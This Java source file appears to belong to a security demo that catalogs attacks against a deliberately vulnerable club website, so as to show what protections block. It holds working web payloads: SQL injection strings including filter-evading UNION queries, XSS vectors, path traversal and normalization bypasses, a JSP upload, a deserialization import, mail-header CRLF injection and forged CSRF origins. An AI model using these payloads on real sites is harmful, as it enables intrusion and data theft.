package io.gatehouse.demo.attacks;

import static io.gatehouse.demo.attacks.RawRequest.form;
import static io.gatehouse.demo.attacks.RawRequest.get;

import io.gatehouse.demo.club.RaceResult;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;

/** Every attack on this site, in the order of the page. Each works while nothing protects the site. */
public final class AttackCatalog {
    private static final String ADMINS = "ONLY-FOR-ADMINS";
    private static final String MEMBERS = "ONLY-FOR-MEMBERS";
    private static final String EVIL = "https://evil.example";

    private static final Map<String, Attack> ATTACKS = List.of(
                    https(),
                    direct(),
                    spellings(),
                    detours(),
                    sql(),
                    script(),
                    files(),
                    objects(),
                    mail(),
                    crossSite(),
                    server())
            .stream()
            .flatMap(List::stream)
            .collect(Collectors.toMap(Attack::id, Function.identity(), AttackCatalog::clash, LinkedHashMap::new));

    private AttackCatalog() {}

    /** All attacks. */
    public static List<Attack> all() {
        return List.copyOf(ATTACKS.values());
    }

    /** The attack of that id. */
    public static Optional<Attack> find(@Nullable String id) {
        return Optional.ofNullable(id).map(ATTACKS::get);
    }

    private static Attack clash(Attack one, Attack other) {
        throw new IllegalStateException("Two attacks are called " + other.id() + ", the first is " + one);
    }

    private static List<Attack> https() {
        String group = "HTTPS";
        return List.of(
                new Attack(
                        "plain-http",
                        group,
                        "Read the site in the clear",
                        "Asks for the home page over plain HTTP. Whoever sits on the way reads along.",
                        Channel.PLAIN,
                        List.of(get("/")),
                        Marker.body("Rowing on the Withywater since 1911")),
                new Attack(
                        "no-hsts",
                        group,
                        "Catch the next visit before it reaches HTTPS",
                        "Without Strict-Transport-Security a browser starts its next visit over plain HTTP again.",
                        Channel.SECURE,
                        List.of(get("/")),
                        Marker.missing("Strict-Transport-Security:")));
    }

    private static List<Attack> direct() {
        String group = "Direct entry";
        return List.of(
                entry(
                        group,
                        "direct-admin",
                        "Open the committee's page",
                        "A visitor types the address.",
                        "/admin/",
                        ADMINS),
                entry(
                        group,
                        "direct-admin-file",
                        "Fetch the committee's backup",
                        "A static file, straight from the folder.",
                        "/admin/backup.txt",
                        ADMINS),
                entry(
                        group,
                        "direct-admin-servlet",
                        "Use a committee's tool",
                        "A servlet with path info below the folder.",
                        "/admin/tools/keys",
                        ADMINS),
                entry(
                        group,
                        "direct-members",
                        "Open the members' page",
                        "A visitor types the address.",
                        "/members/",
                        MEMBERS),
                entry(
                        group,
                        "direct-members-file",
                        "Fetch the minutes",
                        "A static file, straight from the folder.",
                        "/members/minutes.txt",
                        MEMBERS),
                entry(
                        group,
                        "direct-members-servlet",
                        "Fetch the members' list",
                        "A servlet with path info below the folder.",
                        "/members/list/all",
                        MEMBERS),
                attack(
                        group,
                        "direct-admin-post",
                        "Open the committee's page by POST",
                        "Works where a rule was written for GET alone.",
                        Marker.body(ADMINS),
                        form("/admin/", "a=b")),
                attack(
                        group,
                        "direct-admin-verb",
                        "Open the committee's tool by a made-up method",
                        "Works where a rule lists the methods it knows (CVE-2010-0738).",
                        Marker.body(ADMINS),
                        new RawRequest("JEFF", "/admin/tools/keys", List.of(), "")));
    }

    /** Other names of /admin/: the container resolves them all, a rule that compares text misses them. */
    private static List<Attack> spellings() {
        return List.of(
                spelling("path-semicolon", "A parameter after the folder", "/admin;x/"),
                spelling("path-dotdot-semicolon", "Two dots with a parameter", "/public/..;/admin/"),
                spelling("path-empty-parameter", "A parameter before the folder", "/;x/admin/"),
                spelling("path-session-id", "A session id in the path", "/admin/backup.txt;jsessionid=0"),
                spelling("path-static-suffix", "A style sheet's ending as a parameter", "/admin/index.jsp;.css"),
                spelling("path-static-info", "A picture's ending as path info", "/admin/tools/logo.png"),
                spelling("path-double-slash", "Two slashes in front", "//admin/"),
                spelling("path-inner-slashes", "Two slashes inside", "/admin//backup.txt"),
                spelling("path-dot", "A dot segment", "/./admin/"),
                spelling("path-dotdot", "Two dots, as browsers never send them", "/css/../admin/"),
                spelling("path-encoded-dots", "Encoded dots", "/css/%2e%2e/admin/"),
                spelling("path-encoded-letter", "An encoded letter", "/%61dmin/"),
                spelling("path-encoded-slash", "An encoded slash", "/css%2f..%2fadmin/"),
                spelling("path-encoded-slash-inside", "An encoded slash inside", "/admin%2fbackup.txt"),
                spelling("path-backslash", "An encoded backslash", "/css%5c..%5cadmin%5cbackup.txt"),
                spelling("path-absolute", "The whole address as target", "http://{host}{context}/admin/"));
    }

    private static List<Attack> detours() {
        String group = "Detours into the committee's pages";
        return List.of(
                entry(
                        group,
                        "detour-forward",
                        "By a forward",
                        "A public page forwards.",
                        "/forward?to=/admin/",
                        ADMINS),
                entry(
                        group,
                        "detour-include",
                        "By an include",
                        "A public page includes.",
                        "/include?page=/admin/",
                        ADMINS),
                entry(
                        group,
                        "detour-async",
                        "By an async dispatch",
                        "From another thread.",
                        "/async?dispatch=/admin/",
                        ADMINS),
                entry(
                        group,
                        "detour-forward-dots",
                        "By a forward with encoded dots",
                        "Dispatcher paths are decoded once more.",
                        "/forward?to=/css/%252e%252e/admin/",
                        ADMINS),
                entry(
                        group,
                        "detour-forward-semicolon",
                        "By a forward with a parameter",
                        "Dispatcher paths hold parameters too.",
                        "/forward?to=/admin;x/backup.txt",
                        ADMINS),
                entry(
                        group,
                        "detour-include-file",
                        "By an include of a file",
                        "The default servlet serves includes as well.",
                        "/include?page=/admin/backup.txt",
                        ADMINS),
                entry(
                        group,
                        "detour-twice",
                        "By two forwards",
                        "The first one leads to a page that is public.",
                        "/forward?to=/include%3Fpage%3D/admin/",
                        ADMINS));
    }

    private static List<Attack> sql() {
        String group = "SQL injection";
        return List.of(
                search(
                        group,
                        "sql-or",
                        "Read unpublished news",
                        "Turns the condition into one that is always true.",
                        "%27+OR+%271%27%3D%271%27+--+",
                        "NOT-FOR-PUBLICATION"),
                search(
                        group,
                        "sql-union",
                        "Read another table",
                        "Adds the members' locker codes to the result.",
                        "%27+UNION+SELECT+seat%2Cname%2Clocker_code+FROM+members--+",
                        "LOCKER-CODE-"),
                search(
                        group,
                        "sql-union-comments",
                        "Read another table, in disguise",
                        "Comments for spaces and mixed case slip past word lists.",
                        "%27%2F**%2FuNiOn%2F**%2FsElEcT%2F**%2Fseat%2Cname%2Clocker_code%2F**%2FfRoM%2F**%2Fmembers--+",
                        "LOCKER-CODE-"),
                search(
                        group,
                        "sql-error",
                        "Make the database talk",
                        "One quote, and the error names the statement.",
                        "%27",
                        "Syntax error in SQL statement"));
    }

    private static List<Attack> script() {
        String group = "Script injection (XSS)";
        String tag = "%3Cscript%3Edocument.title%3D%27{token}%27%3C%2Fscript%3E";
        Marker ran = Marker.body("<script>document.title='{token}'</script>");
        return List.of(
                attack(
                        group,
                        "xss-guestbook",
                        "Reflected, guestbook",
                        "A link carries the script.",
                        ran,
                        get("/guestbook?name=" + tag)),
                attack(
                        group,
                        "xss-search",
                        "Reflected, search",
                        "A link carries the script.",
                        ran,
                        get("/search?q=" + tag)),
                attack(
                        group,
                        "xss-attribute",
                        "Out of an attribute",
                        "A quote ends the field's value, an event handler follows.",
                        Marker.body("value=\"\" autofocus onfocus=\"document.title='{token}'\""),
                        get("/search?q=%22+autofocus+onfocus%3D%22document.title%3D%27{token}%27")),
                attack(
                        group,
                        "xss-script",
                        "Out of a script's string",
                        "A quote ends the string, code follows.",
                        Marker.body("asked = \"\";document.title=\"{token}\""),
                        get("/search?q=%22%3Bdocument.title%3D%22{token}")),
                attack(
                        group,
                        "xss-stored",
                        "Stored in the guestbook",
                        "Runs in the browser of everybody who reads the guestbook.",
                        ran,
                        form("/guestbook", "name=Eve&message=" + tag),
                        get("/guestbook")));
    }

    private static List<Attack> files() {
        String group = "Files";
        return List.of(
                entry(
                        group,
                        "file-traversal",
                        "Leave the documents by a parameter",
                        "Two dots lead to the folder above.",
                        "/files/?doc=../SECRET-OUTSIDE.txt",
                        "OUTSIDE-OF-THE-DOCUMENTS"),
                entry(
                        group,
                        "file-traversal-path",
                        "Leave the documents by the path",
                        "Encoded twice: the container decodes once, the page once more.",
                        "/files/%252e%252e%252fSECRET-OUTSIDE.txt",
                        "OUTSIDE-OF-THE-DOCUMENTS"),
                attack(
                        group,
                        "upload-jsp",
                        "Upload a page of code",
                        "A .jsp in a folder that the container serves is a shell.",
                        Marker.body("stored: club/uploads/{token}.jsp"),
                        upload("{token}.jsp", "application/octet-stream", "<%= Runtime.getRuntime() %>")),
                attack(
                        group,
                        "upload-html",
                        "Upload a page of script",
                        "Served again from this site, with this site's rights.",
                        Marker.body("<script>document.title='{token}'</script>"),
                        upload("{token}.html", "text/html", "<script>document.title='{token}'</script>"),
                        get("/upload/{token}.html")),
                attack(
                        group,
                        "upload-traversal",
                        "Upload outside of the folder",
                        "The file's name says where it goes.",
                        Marker.body("stored: club/{token}.txt"),
                        upload("../{token}.txt", "text/plain", "hello")));
    }

    private static List<Attack> objects() {
        String group = "Object injection";
        Marker happened = Marker.body("object injection happened");
        String base64 =
                Base64.getEncoder().encodeToString(gadget()).replace("+", "%2B").replace("=", "%3D");
        return List.of(
                attack(
                        group,
                        "object-form",
                        "Import an object by the form",
                        "Reading it runs code of a class that the sender chose.",
                        happened,
                        form("/import", "object=" + base64)),
                attack(
                        group,
                        "object-body",
                        "Import an object as the body",
                        "The same in bytes.",
                        happened,
                        new RawRequest(
                                "POST",
                                "/import",
                                List.of("Content-Type: application/x-java-serialized-object"),
                                new String(gadget(), StandardCharsets.ISO_8859_1))));
    }

    private static List<Attack> mail() {
        String group = "Mail";
        return List.of(
                attack(
                        group,
                        "mail-subject",
                        "Add recipients by the subject",
                        "A line break in the subject starts a header of its own.",
                        Marker.body("\nBcc: {token}@evil.example"),
                        form(
                                "/contact",
                                "preview=1&name=Eve&email=eve%40evil.example&message=Hi&subject=Hi%0D%0ABcc:%20{token}%40evil.example")),
                attack(
                        group,
                        "mail-reply-to",
                        "Add recipients by the sender",
                        "The same by the address to answer to.",
                        Marker.body("\nCc: {token}@evil.example"),
                        form(
                                "/contact",
                                "preview=1&name=Eve&email=a%40evil.example%3E%0D%0ACc:%20{token}%40evil.example&message=Hi&subject=Hi")),
                attack(
                        group,
                        "mail-host",
                        "Put a stranger's link into the club's mail",
                        "The link is made of the Host header.",
                        Marker.body("://{token}.evil.example/contact"),
                        form("/contact", "preview=1&name=Eve&email=eve%40evil.example&message=Hi&subject=Hi")
                                .with("Host: {token}.evil.example")));
    }

    private static List<Attack> crossSite() {
        String group = "From another site";
        RawRequest entry = form("/guestbook", "name=Eve&message={token}");
        Marker stored = Marker.body("{token}");
        return List.of(
                attack(
                        group,
                        "csrf-form",
                        "Post a form from another site (CSRF)",
                        "A page elsewhere sends this site's form with the visitor's cookies.",
                        stored,
                        entry.with("Origin: " + EVIL, "Sec-Fetch-Site: cross-site"),
                        get("/guestbook")),
                attack(
                        group,
                        "csrf-null-origin",
                        "Post a form from a sandboxed frame (CSRF)",
                        "The browser sends Origin: null.",
                        stored,
                        entry.with("Origin: null", "Sec-Fetch-Site: cross-site"),
                        get("/guestbook")),
                attack(
                        group,
                        "csrf-old-browser",
                        "Post a form from another site, old browser",
                        "No Sec-Fetch-Site, only an Origin that is not ours.",
                        stored,
                        entry.with("Origin: " + EVIL),
                        get("/guestbook")),
                attack(
                        group,
                        "cross-site-websocket",
                        "Open the chat from another site",
                        "WebSockets know no same-origin rule; the server has to look at Origin.",
                        Marker.head("HTTP/1.1 101"),
                        get("/ws/echo")
                                .with(
                                        "Connection: Upgrade",
                                        "Upgrade: websocket",
                                        "Sec-WebSocket-Version: 13",
                                        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                                        "Origin: " + EVIL,
                                        "Sec-Fetch-Site: cross-site")),
                attack(
                        group,
                        "framing",
                        "Put the site into a frame (clickjacking)",
                        "The visitor clicks on what they don't see.",
                        Marker.missing("X-Frame-Options:|frame-ancestors"),
                        get("/")),
                attack(
                        group,
                        "redirect-open",
                        "Send visitors elsewhere by a link to this site",
                        "The link looks like the club's.",
                        Marker.head("Location: " + EVIL + "/{token}"),
                        get("/redirect?to=" + EVIL + "/{token}")));
    }

    private static List<Attack> server() {
        String group = "Server";
        return List.of(
                attack(
                        group,
                        "host-header",
                        "Speak to the site under a stranger's name",
                        "What the site says about its own address poisons caches and links.",
                        Marker.body("server-name: {token}.evil.example"),
                        get("/whoami").with("Host: {token}.evil.example")),
                attack(
                        group,
                        "trace",
                        "Have the server repeat the request (TRACE)",
                        "Shows headers that a proxy added, or that a script must not read.",
                        Marker.body("{token}"),
                        new RawRequest("TRACE", "/whoami", List.of("X-Added-By-Proxy: {token}"), "")),
                attack(
                        group,
                        "log-forging",
                        "Forge a line of the log",
                        "A line break in the entry starts a line that nobody wrote.",
                        Marker.body("\n2026-01-01 00:00 | INFO | committee: the keys go to {token}"),
                        form(
                                "/logbook",
                                "entry=calm%0A2026-01-01%2000:00%20%7C%20INFO%20%7C%20committee:%20the%20keys%20go%20to%20{token}"),
                        get("/logbook?plain=1")),
                attack(
                        group,
                        "error-details",
                        "Read the inside from an error page",
                        "The message names the database and its user.",
                        Marker.body("jdbc:h2:mem:club"),
                        get("/boom")),
                attack(
                        group,
                        "sniffing",
                        "Have a browser guess the type of a file",
                        "Without X-Content-Type-Options: nosniff, a text may be run as a script.",
                        Marker.missing("X-Content-Type-Options:"),
                        get("/files/house-rules.txt")));
    }

    private static Attack attack(
            String group, String id, String title, String about, Marker marker, RawRequest... requests) {
        return new Attack(id, group, title, about, Channel.SAME, List.of(requests), marker);
    }

    private static Attack entry(String group, String id, String title, String about, String target, String marker) {
        return attack(group, id, title, about, Marker.body(marker), get(target));
    }

    private static Attack spelling(String id, String title, String target) {
        String about = "Another name of the committee's pages, as no browser sends it.";
        return entry("Other spellings of the committee's address", id, title, about, target, ADMINS);
    }

    private static Attack search(String group, String id, String title, String about, String query, String marker) {
        return entry(group, id, title, about, "/search?q=" + query, marker);
    }

    private static RawRequest upload(String name, String type, String content) {
        List<String> lines = new ArrayList<>();
        lines.add("--oars");
        lines.add("Content-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"");
        lines.add("Content-Type: " + type);
        lines.add("");
        lines.add(content);
        lines.add("--oars--");
        lines.add("");
        return new RawRequest(
                "POST",
                "/upload",
                List.of("Content-Type: multipart/form-data; boundary=oars"),
                String.join("\r\n", lines));
    }

    private static byte[] gadget() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(new RaceResult("the Heron"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
